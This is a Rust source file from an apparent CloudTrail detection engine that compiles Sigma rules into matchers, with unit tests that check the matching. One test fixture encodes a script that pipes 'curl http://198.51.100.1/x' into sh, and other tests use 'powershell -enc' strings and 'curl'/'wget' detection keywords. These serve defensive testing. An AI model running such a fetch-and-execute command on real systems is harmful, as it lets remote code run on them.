//! The compiled matcher: a rule's `detection:` turned, once at load, into selections of field matchers
//! and a condition over them, plus the literal eventSource/eventName sets the rule can ever match (the
//! pre-filter that keeps most records away from most rules).

use std::collections::BTreeSet;
use std::net::IpAddr;

use ipnet::IpNet;
use regex::RegexBuilder;
use serde_json::Value;

use super::condition::{parse_condition, Condition};
use super::error::SigmaErrorKind;
use super::fields::{FieldRef, Found, RecordView, Typed};
use super::modifiers::{apply_transforms, parse_modifiers, CmpOp, MatchKind, RefKind};
use super::pattern::{RegexMatcher, SigmaString, StrMatcher};
use super::yaml::{dedup_map, YamlNode};

/// One compiled `detection:` block.
#[derive(Debug, Clone)]
pub struct Detection {
    names: Vec<String>,
    selections: Vec<Selection>,
    condition: Condition,
}

/// A named selection: a map (every field matches) or a list of maps (any map matches).
#[derive(Debug, Clone)]
enum Selection {
    AllOf(Vec<FieldMatcher>),
    AnyOf(Vec<Selection>),
}

/// One `field|modifiers: values` entry.
#[derive(Debug, Clone)]
pub struct FieldMatcher {
    /// The field as written (without modifiers), for evidence.
    pub name: String,
    pub field: FieldRef,
    values: Vec<ValueMatcher>,
    /// `all`: every value must match; otherwise any.
    all: bool,
}

#[derive(Debug, Clone)]
enum ValueMatcher {
    /// `field: null`: absent or JSON null.
    Null,
    Str(StrMatcher),
    Regex(Box<RegexMatcher>),
    Cidr(IpNet),
    Compare(CmpOp, f64),
    Exists(bool),
    FieldRef {
        other: FieldRef,
        kind: RefKind,
        cased: bool,
    },
}

impl Detection {
    /// Compiles `detection:`; errors name the selection and field at fault.
    pub fn compile(node: &YamlNode) -> Result<Detection, SigmaErrorKind> {
        let YamlNode::Map(entries) = node else {
            return Err(SigmaErrorKind::Invalid(format!(
                "`detection` must be a map, found {}",
                node.kind()
            )));
        };
        let entries = dedup_map(entries, "`detection`")?;
        let mut names = Vec::new();
        let mut selections = Vec::new();
        let mut condition_node = None;
        for (name, value) in entries {
            match name {
                "condition" => condition_node = Some(value),
                "timeframe" => {
                    return Err(SigmaErrorKind::Unsupported(
                        "`timeframe` (aggregation over time) belongs to correlation rules".into(),
                    ))
                }
                _ => {
                    let selection = compile_selection(value)
                        .map_err(|e| prefix(e, &format!("selection `{name}`")))?;
                    names.push(name.to_owned());
                    selections.push(selection);
                }
            }
        }
        if selections.is_empty() {
            return Err(SigmaErrorKind::Invalid(
                "`detection` has no selections".into(),
            ));
        }
        let condition = match condition_node {
            Some(YamlNode::String(text)) => parse_condition(text, &names)?,
            // A list of conditions means any of them.
            Some(YamlNode::Seq(items)) if !items.is_empty() => {
                let mut parts = Vec::with_capacity(items.len());
                for item in items {
                    let text = item.as_str().ok_or_else(|| {
                        SigmaErrorKind::Invalid(format!(
                            "`condition` list items must be strings, found {}",
                            item.kind()
                        ))
                    })?;
                    parts.push(parse_condition(text, &names)?);
                }
                Condition::Or(parts)
            }
            Some(other) => {
                return Err(SigmaErrorKind::Invalid(format!(
                    "`condition` must be a string, found {}",
                    other.kind()
                )))
            }
            None => {
                return Err(SigmaErrorKind::Invalid(
                    "`detection` has no `condition`".into(),
                ))
            }
        };
        if selections.is_empty() {
            return Err(SigmaErrorKind::Invalid(
                "`detection` has no selections".into(),
            ));
        }
        Ok(Detection {
            names,
            selections,
            condition,
        })
    }

    pub fn matches(&self, view: &RecordView<'_, '_>) -> bool {
        self.eval(&self.condition, view)
    }

    fn eval(&self, cond: &Condition, view: &RecordView<'_, '_>) -> bool {
        match cond {
            Condition::Selection(i) => self.selections[*i].matches(view),
            Condition::Not(inner) => !self.eval(inner, view),
            Condition::And(items) => items.iter().all(|c| self.eval(c, view)),
            Condition::Or(items) => items.iter().any(|c| self.eval(c, view)),
            Condition::All(targets) => targets.iter().all(|&i| self.selections[i].matches(view)),
            Condition::AtLeast(n, targets) => {
                let mut hits = 0;
                for &i in targets {
                    if self.selections[i].matches(view) {
                        hits += 1;
                        if hits >= *n {
                            return true;
                        }
                    }
                }
                false
            }
        }
    }

    /// The lower-cased literal values `typed` (eventName or eventSource) must have for the rule to match,
    /// or `None` when the rule does not pin it down.
    pub fn required_values(&self, typed: Typed) -> Option<BTreeSet<String>> {
        self.constraint(&self.condition, typed)
    }

    fn constraint(&self, cond: &Condition, typed: Typed) -> Option<BTreeSet<String>> {
        let sel = |i: usize| self.selections[i].constraint(typed);
        match cond {
            Condition::Selection(i) => sel(*i),
            // A negation can be satisfied by any value.
            Condition::Not(_) => None,
            Condition::And(items) => intersect_all(items.iter().map(|c| self.constraint(c, typed))),
            Condition::Or(items) => union_all(items.iter().map(|c| self.constraint(c, typed))),
            Condition::All(targets) => intersect_all(targets.iter().map(|&i| sel(i))),
            // With n > 1 any n of the targets may be the ones matching; the union still holds.
            Condition::AtLeast(_, targets) => union_all(targets.iter().map(|&i| sel(i))),
        }
    }

    /// Texts (lower case) one of which a record's raw JSON must contain for the rule to match, or `None`
    /// when the rule does not pin any down. Used to decline records without parsing them.
    pub fn required_substrings(&self) -> Option<BTreeSet<String>> {
        self.substrings_of(&self.condition)
    }

    fn substrings_of(&self, cond: &Condition) -> Option<BTreeSet<String>> {
        let sel = |i: usize| self.selections[i].substrings();
        match cond {
            Condition::Selection(i) => sel(*i),
            Condition::Not(_) => None,
            // Every part must match, so any part's requirement is one of the rule's.
            Condition::And(items) => most_selective(items.iter().map(|c| self.substrings_of(c))),
            Condition::Or(items) => union_all(items.iter().map(|c| self.substrings_of(c))),
            Condition::All(targets) => most_selective(targets.iter().map(|&i| sel(i))),
            Condition::AtLeast(_, targets) => union_all(targets.iter().map(|&i| sel(i))),
        }
    }

    /// Every field matcher, for evidence.
    pub fn field_matchers(&self) -> Vec<&FieldMatcher> {
        fn collect<'d>(sel: &'d Selection, out: &mut Vec<&'d FieldMatcher>) {
            match sel {
                Selection::AllOf(fields) => out.extend(fields.iter()),
                Selection::AnyOf(items) => items.iter().for_each(|s| collect(s, out)),
            }
        }
        let mut out = Vec::new();
        self.selections.iter().for_each(|s| collect(s, &mut out));
        out
    }

    /// Whether every field the rule reads (fieldref targets included) is typed by the record, so that a
    /// record read without a parse ([`trailguard_event::Record::peek_typed`]) judges it exactly.
    pub fn reads_typed_fields_only(&self) -> bool {
        self.field_matchers().iter().all(|m| {
            matches!(m.field, FieldRef::Typed(_))
                && m.values.iter().all(|v| match v {
                    ValueMatcher::FieldRef { other, .. } => matches!(other, FieldRef::Typed(_)),
                    _ => true,
                })
        })
    }

    pub fn selection_names(&self) -> &[String] {
        &self.names
    }
}

/// Of several requirements that all hold, the one that rules out most records: the one whose
/// shortest text is longest (`"assumedrole"` rather than `"role"`, which most records hold).
fn most_selective(
    parts: impl Iterator<Item = Option<BTreeSet<String>>>,
) -> Option<BTreeSet<String>> {
    parts
        .flatten()
        .max_by_key(|texts| texts.iter().map(String::len).min().unwrap_or(0))
}

fn intersect_all(
    parts: impl Iterator<Item = Option<BTreeSet<String>>>,
) -> Option<BTreeSet<String>> {
    let mut acc: Option<BTreeSet<String>> = None;
    for part in parts.flatten() {
        acc = Some(match acc {
            None => part,
            Some(prev) => prev.intersection(&part).cloned().collect(),
        });
    }
    acc
}

fn union_all(
    mut parts: impl Iterator<Item = Option<BTreeSet<String>>>,
) -> Option<BTreeSet<String>> {
    let mut acc = BTreeSet::new();
    for part in parts.by_ref() {
        acc.extend(part?);
    }
    Some(acc)
}

fn prefix(err: SigmaErrorKind, context: &str) -> SigmaErrorKind {
    match err {
        SigmaErrorKind::Invalid(m) => SigmaErrorKind::Invalid(format!("{context}: {m}")),
        SigmaErrorKind::Unsupported(m) => SigmaErrorKind::Unsupported(format!("{context}: {m}")),
        other => other,
    }
}

impl Selection {
    fn matches(&self, view: &RecordView<'_, '_>) -> bool {
        match self {
            Selection::AllOf(fields) => fields.iter().all(|f| f.matches(view)),
            Selection::AnyOf(items) => items.iter().any(|s| s.matches(view)),
        }
    }

    fn substrings(&self) -> Option<BTreeSet<String>> {
        match self {
            Selection::AllOf(fields) => {
                most_selective(fields.iter().map(FieldMatcher::substring_set))
            }
            Selection::AnyOf(items) => union_all(items.iter().map(Selection::substrings)),
        }
    }

    fn constraint(&self, typed: Typed) -> Option<BTreeSet<String>> {
        match self {
            Selection::AllOf(fields) => intersect_all(
                fields
                    .iter()
                    .filter(|f| f.field.is(typed))
                    .map(FieldMatcher::literal_set),
            ),
            Selection::AnyOf(items) => union_all(items.iter().map(|s| s.constraint(typed))),
        }
    }
}

fn compile_selection(node: &YamlNode) -> Result<Selection, SigmaErrorKind> {
    match node {
        YamlNode::Map(entries) => {
            if entries.is_empty() {
                return Err(SigmaErrorKind::Invalid("empty map".into()));
            }
            let entries = dedup_map(entries, "the selection")?;
            let mut fields = entries
                .into_iter()
                .map(|(key, value)| compile_field(key, value))
                .collect::<Result<Vec<_>, _>>()?;
            // Cheapest checks first: a typed eventName mismatch spares the JSON parse a later field needs.
            fields.sort_by_key(FieldMatcher::cost);
            Ok(Selection::AllOf(fields))
        }
        YamlNode::Seq(items) if items.is_empty() => {
            Err(SigmaErrorKind::Invalid("empty list".into()))
        }
        YamlNode::Seq(items) if items.iter().all(|i| matches!(i, YamlNode::Map(_))) => {
            Ok(Selection::AnyOf(
                items
                    .iter()
                    .map(compile_selection)
                    .collect::<Result<_, _>>()?,
            ))
        }
        YamlNode::Seq(items) if items.iter().any(|i| matches!(i, YamlNode::Map(_))) => Err(
            SigmaErrorKind::Invalid("a list mixing maps and plain values".into()),
        ),
        // Keywords: plain values searched for anywhere in the record.
        YamlNode::Seq(_) | YamlNode::String(_) | YamlNode::Int(_) | YamlNode::Float(_) => {
            Ok(Selection::AllOf(vec![compile_field("", node)?]))
        }
        other => Err(SigmaErrorKind::Invalid(format!(
            "expected a map, a list of maps or keywords, found {}",
            other.kind()
        ))),
    }
}

/// Compiles `name|mod|mod: value(s)`. An empty name is a keyword search over the raw record.
fn compile_field(key: &str, node: &YamlNode) -> Result<FieldMatcher, SigmaErrorKind> {
    let mut parts = key.split('|');
    let name = parts.next().unwrap_or_default().trim();
    let modifier_names: Vec<&str> = parts.map(str::trim).collect();
    let shown = if name.is_empty() { "keywords" } else { name };
    let mut modifiers = parse_modifiers(shown, &modifier_names)?;
    let field = FieldRef::map(name);
    // Keywords match anywhere in the record text unless a comparison modifier says otherwise.
    if field == FieldRef::RawText && modifiers.kind == MatchKind::Equals {
        modifiers.kind = MatchKind::Contains;
    }
    let values: Vec<&YamlNode> = match node {
        YamlNode::Seq(items) if items.is_empty() => {
            return Err(SigmaErrorKind::Invalid(format!(
                "field `{shown}`: empty value list"
            )))
        }
        YamlNode::Seq(items) => items.iter().collect(),
        other => vec![other],
    };
    let mut matchers = Vec::with_capacity(values.len());
    for value in values {
        matchers.extend(compile_value(shown, value, &modifiers.kind, &modifiers)?);
    }
    Ok(FieldMatcher {
        name: name.to_owned(),
        field,
        values: matchers,
        all: modifiers.all,
    })
}

fn compile_value(
    field: &str,
    value: &YamlNode,
    kind: &MatchKind,
    modifiers: &super::modifiers::Modifiers,
) -> Result<Vec<ValueMatcher>, SigmaErrorKind> {
    let invalid = |msg: String| SigmaErrorKind::Invalid(format!("field `{field}`: {msg}"));
    if matches!(value, YamlNode::Seq(_) | YamlNode::Map(_)) {
        return Err(invalid(format!(
            "values must be scalars, found {}",
            value.kind()
        )));
    }
    if *value == YamlNode::Null {
        return match kind {
            MatchKind::Equals => Ok(vec![ValueMatcher::Null]),
            _ => Err(invalid("`null` only works without modifiers".into())),
        };
    }
    match kind {
        MatchKind::Exists => match value {
            YamlNode::Bool(b) => Ok(vec![ValueMatcher::Exists(*b)]),
            YamlNode::String(s) if s.eq_ignore_ascii_case("true") => {
                Ok(vec![ValueMatcher::Exists(true)])
            }
            YamlNode::String(s) if s.eq_ignore_ascii_case("false") => {
                Ok(vec![ValueMatcher::Exists(false)])
            }
            other => Err(invalid(format!(
                "`exists` needs true or false, found {}",
                other.kind()
            ))),
        },
        MatchKind::Compare(op) => {
            let number = match value {
                YamlNode::Int(i) => *i as f64,
                YamlNode::Float(f) => *f,
                YamlNode::String(s) => s.trim().parse::<f64>().map_err(|_| {
                    invalid(format!("`gt`/`gte`/`lt`/`lte` need a number, found `{s}`"))
                })?,
                other => {
                    return Err(invalid(format!(
                        "comparison needs a number, found {}",
                        other.kind()
                    )))
                }
            };
            Ok(vec![ValueMatcher::Compare(*op, number)])
        }
        MatchKind::Cidr => {
            let text = value.scalar_text().unwrap_or_default();
            let net: IpNet = text
                .trim()
                .parse()
                .map_err(|_| invalid(format!("`{text}` is not a CIDR block")))?;
            Ok(vec![ValueMatcher::Cidr(net)])
        }
        MatchKind::Re {
            insensitive,
            multi_line,
            dot_all,
        } => {
            let text = value.scalar_text().unwrap_or_default();
            let re = RegexBuilder::new(&text)
                .case_insensitive(*insensitive)
                .multi_line(*multi_line)
                .dot_matches_new_line(*dot_all)
                .build()
                .map_err(|e| invalid(format!("bad regular expression `{text}`: {e}")))?;
            let matcher = RegexMatcher::new(re, &text, *insensitive);
            Ok(vec![ValueMatcher::Regex(Box::new(matcher))])
        }
        MatchKind::FieldRef(ref_kind) => {
            let other = value.as_str().ok_or_else(|| {
                invalid(format!(
                    "`fieldref` needs a field name, found {}",
                    value.kind()
                ))
            })?;
            Ok(vec![ValueMatcher::FieldRef {
                other: FieldRef::map(other.trim()),
                kind: *ref_kind,
                cased: modifiers.cased,
            }])
        }
        MatchKind::Equals | MatchKind::Contains | MatchKind::StartsWith | MatchKind::EndsWith => {
            // Strings carry wildcards; numbers and booleans are compared as the text they print as.
            let base = match value {
                YamlNode::String(s) => SigmaString::parse(s),
                other => SigmaString::literal(&other.scalar_text().unwrap_or_default()),
            };
            let (before, after) = match kind {
                MatchKind::Contains => (true, true),
                MatchKind::StartsWith => (false, true),
                MatchKind::EndsWith => (true, false),
                _ => (false, false),
            };
            apply_transforms(field, base, &modifiers.transforms)?
                .into_iter()
                .map(|s| {
                    StrMatcher::compile(&s.wrapped(before, after), modifiers.cased)
                        .map(ValueMatcher::Str)
                })
                .collect()
        }
    }
}

impl FieldMatcher {
    fn cost(&self) -> u8 {
        let refs = self
            .values
            .iter()
            .map(|v| match v {
                ValueMatcher::FieldRef { other, .. } => other.cost(),
                _ => 0,
            })
            .max()
            .unwrap_or(0);
        self.field.cost().max(refs)
    }

    pub fn matches(&self, view: &RecordView<'_, '_>) -> bool {
        if self.all {
            self.values.iter().all(|v| v.matches(&self.field, view))
        } else {
            self.values.iter().any(|v| v.matches(&self.field, view))
        }
    }

    /// The values this field must literally equal (for the pre-filter), if they are all plain.
    /// Texts (lower case) one of which the record's JSON text must contain for this field to match.
    /// Text JSON would escape (quotes, backslashes, control characters) is not used: it would not
    /// appear as written.
    fn substring_set(&self) -> Option<BTreeSet<String>> {
        let mut out = BTreeSet::new();
        for value in &self.values {
            let text = match value {
                ValueMatcher::Str(m) => m.required_text(),
                ValueMatcher::Regex(re) => re.needle(),
                _ => None,
            }?;
            if text.is_empty() || text.bytes().any(|b| b == b'"' || b == b'\\' || b < 0x20) {
                return None;
            }
            out.insert(text.to_ascii_lowercase());
            if self.all {
                // Every value must match: one of them is already a requirement.
                break;
            }
        }
        (!out.is_empty()).then_some(out)
    }

    fn literal_set(&self) -> Option<BTreeSet<String>> {
        let literals: Option<Vec<String>> = self
            .values
            .iter()
            .map(|v| match v {
                ValueMatcher::Str(m) => m.exact_literal().map(str::to_ascii_lowercase),
                _ => None,
            })
            .collect();
        let literals = literals?;
        if self.all {
            // One field equal to every listed value: only possible when they are all the same.
            return intersect_all(literals.into_iter().map(|l| Some(BTreeSet::from([l]))));
        }
        Some(literals.into_iter().collect())
    }
}

impl ValueMatcher {
    fn matches(&self, field: &FieldRef, view: &RecordView<'_, '_>) -> bool {
        match self {
            ValueMatcher::Null => {
                let mut any = false;
                let null = view.any_value(field, &mut |found| {
                    any = true;
                    found.is_null()
                });
                null || !any
            }
            ValueMatcher::Exists(want) => {
                let present = view.any_value(field, &mut |found| !found.is_null());
                present == *want
            }
            ValueMatcher::Str(m) => view.any_value(field, &mut |found| {
                found_text_matches(found, &|t| m.is_match(t))
            }),
            ValueMatcher::Regex(re) => view.any_value(field, &mut |found| {
                found_text_matches(found, &|t| re.is_match(t))
            }),
            ValueMatcher::Cidr(net) => view.any_value(field, &mut |found| {
                found_text_matches(found, &|t| {
                    t.trim().parse::<IpAddr>().is_ok_and(|ip| net.contains(&ip))
                })
            }),
            ValueMatcher::Compare(op, right) => view.any_value(field, &mut |found| {
                let left = match found {
                    Found::Str(s) => s.trim().parse::<f64>().ok(),
                    Found::Json(Value::Number(n)) => n.as_f64(),
                    Found::Json(Value::String(s)) => s.trim().parse::<f64>().ok(),
                    _ => None,
                };
                left.is_some_and(|l| op.holds(l, *right))
            }),
            ValueMatcher::FieldRef { other, kind, cased } => {
                let Some(expected) = view.first_text(other) else {
                    return false;
                };
                let pattern = SigmaString::literal(&expected);
                let pattern = match kind {
                    RefKind::Equals => pattern,
                    RefKind::Contains => pattern.wrapped(true, true),
                    RefKind::StartsWith => pattern.wrapped(false, true),
                    RefKind::EndsWith => pattern.wrapped(true, false),
                };
                // Built per record because the other field's value is only known now; literal patterns
                // compile to plain comparisons, never a regex, unless the text is non-ASCII.
                let Ok(m) = StrMatcher::compile(&pattern, *cased) else {
                    return false;
                };
                view.any_value(field, &mut |found| {
                    found_text_matches(found, &|t| m.is_match(t))
                })
            }
        }
    }
}

/// Applies a text test to a found value: strings as they are, numbers and booleans as they print, and
/// objects by any value nested in them or by their compact JSON text.
fn found_text_matches(found: Found<'_>, test: &dyn Fn(&str) -> bool) -> bool {
    match found {
        Found::Str(s) => test(s),
        Found::Bool(b) => test(if b { "true" } else { "false" }),
        Found::Json(value) => json_text_matches(value, test, true),
    }
}

fn json_text_matches(value: &Value, test: &dyn Fn(&str) -> bool, top: bool) -> bool {
    match value {
        Value::Null => false,
        Value::String(s) => test(s),
        Value::Bool(b) => test(if *b { "true" } else { "false" }),
        Value::Number(n) => test(&n.to_string()),
        Value::Array(items) => items.iter().any(|v| json_text_matches(v, test, false)),
        Value::Object(map) => {
            map.values().any(|v| json_text_matches(v, test, false))
                || (top && test(&value.to_string()))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::value::RawValue;
    use trailguard_event::Record;

    fn detection(yaml: &str) -> Result<Detection, SigmaErrorKind> {
        let node: YamlNode = serde_yaml::from_str(yaml).unwrap();
        Detection::compile(&node)
    }

    fn check(det: &Detection, record_json: &str) -> bool {
        let raw: &RawValue = serde_json::from_str(record_json).unwrap();
        let record = Record::from_raw(raw).unwrap();
        det.matches(&RecordView::new(&record))
    }

    const BASE: &str = r#""eventVersion":"1.08","eventTime":"2024-05-02T08:00:00Z","awsRegion":"us-east-1","recipientAccountId":"111122223333""#;

    fn rec(body: &str) -> String {
        format!("{{{BASE},{body}}}")
    }

    #[test]
    fn the_required_text_is_the_most_selective_one() {
        let cases: [(&str, &[&str]); 3] = [
            // Both fields must match; "role" is in most records, "assumedrole" in far fewer.
            (
                "selection:\n  userIdentity.sessionContext.sessionIssuer.type: Role\n  userIdentity.type: AssumedRole\ncondition: selection",
                &["assumedrole"],
            ),
            (
                "a: {userAgent|contains: curl}\nb: {errorCode: AccessDenied}\ncondition: a and b",
                &["accessdenied"],
            ),
            // Alternatives still need one of all their texts.
            (
                "a: {userAgent|contains: curl}\nb: {errorCode: AccessDenied}\ncondition: a or b",
                &["accessdenied", "curl"],
            ),
        ];
        for (yaml, texts) in cases {
            let wanted = texts.iter().map(|t| t.to_string()).collect();
            assert_eq!(
                detection(yaml).unwrap().required_substrings(),
                Some(wanted),
                "{yaml}"
            );
        }
    }

    #[test]
    fn prefilter_sets_follow_the_condition() {
        let det = detection(
            "sel_a: {eventSource: iam.amazonaws.com, eventName: [CreateUser, DeleteUser]}\n\
             sel_b: {eventName: UpdateUser}\n\
             filter: {eventName: ListUsers}\n\
             condition: 1 of sel_* and not filter",
        )
        .unwrap();
        let names = det.required_values(Typed::EventName).unwrap();
        assert_eq!(
            names.into_iter().collect::<Vec<_>>(),
            ["createuser", "deleteuser", "updateuser"]
        );
        // sel_b does not pin the source, so the union is unconstrained.
        assert!(det.required_values(Typed::EventSource).is_none());

        let det = detection("sel: {eventName|startswith: Update}\ncondition: sel").unwrap();
        assert!(det.required_values(Typed::EventName).is_none());
        let det = detection("sel: {eventName: A}\nother: {eventName: B}\ncondition: sel and other")
            .unwrap();
        assert_eq!(det.required_values(Typed::EventName), Some(BTreeSet::new()));
    }

    #[test]
    fn null_matches_absent_and_json_null() {
        let det = detection("sel: {errorCode: null}\ncondition: sel").unwrap();
        assert!(check(
            &det,
            &rec(r#""eventSource":"s3.amazonaws.com","eventName":"DeleteBucket""#)
        ));
        assert!(!check(
            &det,
            &rec(
                r#""eventSource":"s3.amazonaws.com","eventName":"DeleteBucket","errorCode":"AccessDenied""#
            )
        ));
        let det = detection("sel: {requestParameters.policyArn: null}\ncondition: sel").unwrap();
        assert!(check(
            &det,
            &rec(
                r#""eventSource":"iam.amazonaws.com","eventName":"X","requestParameters":{"policyArn":null}"#
            )
        ));
        assert!(!check(
            &det,
            &rec(
                r#""eventSource":"iam.amazonaws.com","eventName":"X","requestParameters":{"policyArn":"arn:x"}"#
            )
        ));
    }

    #[test]
    fn booleans_and_numbers_compare_as_text() {
        let det = detection(
            "sel: {responseElements.publiclyAccessible: 'true', readOnly: false}\ncondition: sel",
        )
        .unwrap();
        assert!(check(
            &det,
            &rec(
                r#""eventSource":"rds.amazonaws.com","eventName":"R","readOnly":false,"responseElements":{"publiclyAccessible":true}"#
            )
        ));
        assert!(!check(
            &det,
            &rec(
                r#""eventSource":"rds.amazonaws.com","eventName":"R","readOnly":false,"responseElements":{"publiclyAccessible":false}"#
            )
        ));
        let det = detection("sel: {requestParameters.maxResults: 50}\ncondition: sel").unwrap();
        assert!(check(
            &det,
            &rec(
                r#""eventSource":"s3.amazonaws.com","eventName":"L","requestParameters":{"maxResults":50}"#
            )
        ));
    }

    #[test]
    fn gt_gte_lt_lte() {
        let r = rec(
            r#""eventSource":"ec2.amazonaws.com","eventName":"RunInstances","requestParameters":{"instancesSet":{"items":[{"minCount":12}]},"count":"7"}"#,
        );
        let yes = [
            "requestParameters.instancesSet.items.minCount|gt: 10",
            "requestParameters.instancesSet.items.minCount|gte: 12",
            "requestParameters.instancesSet.items.minCount|lt: 12.5",
            "requestParameters.count|lte: '7'",
        ];
        for line in yes {
            let det = detection(&format!("sel: {{{line}}}\ncondition: sel")).unwrap();
            assert!(check(&det, &r), "{line}");
        }
        let no = [
            "requestParameters.instancesSet.items.minCount|gt: 12",
            "requestParameters.count|lt: 7",
            "requestParameters.missing|gte: 0",
        ];
        for line in no {
            let det = detection(&format!("sel: {{{line}}}\ncondition: sel")).unwrap();
            assert!(!check(&det, &r), "{line}");
        }
        let err = detection("sel: {f|gt: abc}\ncondition: sel").unwrap_err();
        assert!(err.to_string().contains("need a number"), "{err}");
    }

    #[test]
    fn cidr_matches_v4_and_v6_and_skips_service_names() {
        let det = detection(
            "sel:\n  sourceIPAddress|cidr:\n    - 10.0.0.0/8\n    - 2001:db8::/32\ncondition: sel",
        )
        .unwrap();
        let at = |ip: &str| {
            rec(&format!(
                r#""eventSource":"s3.amazonaws.com","eventName":"X","sourceIPAddress":"{ip}""#
            ))
        };
        assert!(check(&det, &at("10.1.2.3")));
        assert!(check(&det, &at("2001:db8::5")));
        assert!(!check(&det, &at("11.1.2.3")));
        assert!(!check(&det, &at("AWS Internal")));
        assert!(!check(&det, &at("ec2.amazonaws.com")));
        let err =
            detection("sel: {sourceIPAddress|cidr: 10.0.0.0/33}\ncondition: sel").unwrap_err();
        assert!(err.to_string().contains("not a CIDR block"), "{err}");
    }

    #[test]
    fn re_with_flags() {
        let r = rec(
            r#""eventSource":"sts.amazonaws.com","eventName":"X","userIdentity":{"type":"AssumedRole","arn":"arn:aws:sts::1:assumed-role/aws:ec2-instance/i-0abc"}"#,
        );
        let det = detection("sel: {userIdentity.arn|re: '.+:assumed-role/aws:.+'}\ncondition: sel")
            .unwrap();
        assert!(check(&det, &r));
        // Regular expressions are case-sensitive unless `i`.
        let det = detection("sel: {userIdentity.arn|re: 'ASSUMED-ROLE'}\ncondition: sel").unwrap();
        assert!(!check(&det, &r));
        let det =
            detection("sel: {userIdentity.arn|re|i: 'ASSUMED-ROLE'}\ncondition: sel").unwrap();
        assert!(check(&det, &r));
        let multi = rec(r#""eventSource":"s","eventName":"X","errorMessage":"first\nsecond line""#);
        let det = detection("sel: {errorMessage|re: '^second'}\ncondition: sel").unwrap();
        assert!(!check(&det, &multi));
        let det = detection("sel: {errorMessage|re|m: '^second'}\ncondition: sel").unwrap();
        assert!(check(&det, &multi));
        let det = detection("sel: {errorMessage|re: 'first.second'}\ncondition: sel").unwrap();
        assert!(!check(&det, &multi));
        let det = detection("sel: {errorMessage|re|s: 'first.second'}\ncondition: sel").unwrap();
        assert!(check(&det, &multi));
        let err = detection("sel: {f|re: '(unclosed'}\ncondition: sel").unwrap_err();
        assert!(
            err.to_string()
                .contains("bad regular expression `(unclosed`"),
            "{err}"
        );
    }

    #[test]
    fn contains_all_cased_startswith_endswith() {
        let r = rec(
            r#""eventSource":"iam.amazonaws.com","eventName":"PutUserPolicy","userAgent":"S3 Browser 11.2","requestParameters":{"userName":"bob","policyDocument":"{\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"s3:GetObject\"}]}"}"#,
        );
        let yes = [
            "requestParameters|contains|all: ['\"s3:GetObject\"', '\"Allow\"']",
            "userAgent|contains: 's3 browser'",
            "userAgent|startswith: 's3 '",
            "userAgent|endswith: '11.2'",
            "userAgent|contains|cased: 'S3 Browser'",
            "eventName|startswith: ['Get', 'Put']",
        ];
        for line in yes {
            let det = detection(&format!("sel: {{{line}}}\ncondition: sel")).unwrap();
            assert!(check(&det, &r), "{line}");
        }
        let no = [
            "requestParameters|contains|all: ['\"s3:GetObject\"', '\"Deny\"']",
            "userAgent|contains|cased: 's3 browser'",
            "userAgent|endswith: 'Browser'",
            "eventName: PutUser",
        ];
        for line in no {
            let det = detection(&format!("sel: {{{line}}}\ncondition: sel")).unwrap();
            assert!(!check(&det, &r), "{line}");
        }
    }

    #[test]
    fn base64_and_base64offset_find_encoded_user_data() {
        use base64::Engine as _;
        let script = "#!/bin/bash\ncurl http://198.51.100.1/x | sh\n";
        let encoded = base64::engine::general_purpose::STANDARD.encode(script);
        let r = rec(&format!(
            r#""eventSource":"ec2.amazonaws.com","eventName":"ModifyInstanceAttribute","requestParameters":{{"userData":"{encoded}"}}"#
        ));
        let det = detection(
            "sel: {requestParameters.userData|base64offset|contains: 'curl http'}\ncondition: sel",
        )
        .unwrap();
        assert!(check(&det, &r));
        let det = detection(
            "sel: {requestParameters.userData|base64offset|contains: 'wget http'}\ncondition: sel",
        )
        .unwrap();
        assert!(!check(&det, &r));
        let det = detection(
            "sel: {requestParameters.userData|base64|startswith: '#!/bin/bash'}\ncondition: sel",
        );
        // `#!/bin/bash` is 11 bytes: its base64 ends in a partial group, so a prefix match finds the
        // whole-value encoding only when the value is the whole field; our script is longer.
        assert!(!check(&det.unwrap(), &r));
        let exact = base64::engine::general_purpose::STANDARD.encode("secret");
        let r2 = rec(&format!(
            r#""eventSource":"s","eventName":"X","requestParameters":{{"v":"{exact}"}}"#
        ));
        let det = detection("sel: {requestParameters.v|base64: 'secret'}\ncondition: sel").unwrap();
        assert!(check(&det, &r2));
    }

    #[test]
    fn windash_matches_every_dash() {
        let det = detection(
            "sel: {requestParameters.command|windash|contains: ' -enc '}\ncondition: sel",
        )
        .unwrap();
        for cmd in [
            "powershell -enc AAA",
            "powershell /enc AAA",
            "powershell \u{2013}enc AAA",
        ] {
            let r = rec(&format!(
                r#""eventSource":"ssm.amazonaws.com","eventName":"SendCommand","requestParameters":{{"command":"{cmd}"}}"#
            ));
            assert!(check(&det, &r), "{cmd}");
        }
        let r = rec(
            r#""eventSource":"ssm.amazonaws.com","eventName":"SendCommand","requestParameters":{"command":"powershell +enc AAA"}"#,
        );
        assert!(!check(&det, &r));
    }

    #[test]
    fn exists_true_and_false() {
        let with = rec(r#""eventSource":"s","eventName":"X","errorCode":"AccessDenied""#);
        let without = rec(r#""eventSource":"s","eventName":"X""#);
        let det = detection("sel: {errorCode|exists: true}\ncondition: sel").unwrap();
        assert!(check(&det, &with) && !check(&det, &without));
        let det = detection("sel: {errorCode|exists: false}\ncondition: sel").unwrap();
        assert!(!check(&det, &with) && check(&det, &without));
        let err = detection("sel: {errorCode|exists: maybe}\ncondition: sel").unwrap_err();
        assert!(err.to_string().contains("true or false"), "{err}");
    }

    #[test]
    fn fieldref_compares_two_fields() {
        let det = detection(
            "sel: {userIdentity.userName|fieldref: requestParameters.userName}\ncondition: sel",
        )
        .unwrap();
        let same = rec(
            r#""eventSource":"iam.amazonaws.com","eventName":"UpdateLoginProfile","userIdentity":{"type":"IAMUser","userName":"Bob"},"requestParameters":{"userName":"bob"}"#,
        );
        let other = rec(
            r#""eventSource":"iam.amazonaws.com","eventName":"UpdateLoginProfile","userIdentity":{"type":"IAMUser","userName":"alice"},"requestParameters":{"userName":"bob"}"#,
        );
        assert!(check(&det, &same));
        assert!(!check(&det, &other));
        let det = detection(
            "sel: {userIdentity.arn|fieldref|endswith: requestParameters.userName}\ncondition: sel",
        )
        .unwrap();
        let arn = rec(
            r#""eventSource":"iam.amazonaws.com","eventName":"UpdateLoginProfile","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::1:user/bob"},"requestParameters":{"userName":"bob"}"#,
        );
        assert!(check(&det, &arn));
        let det = detection("sel: {userIdentity.userName|fieldref|cased: requestParameters.userName}\ncondition: sel").unwrap();
        assert!(!check(&det, &same));
    }
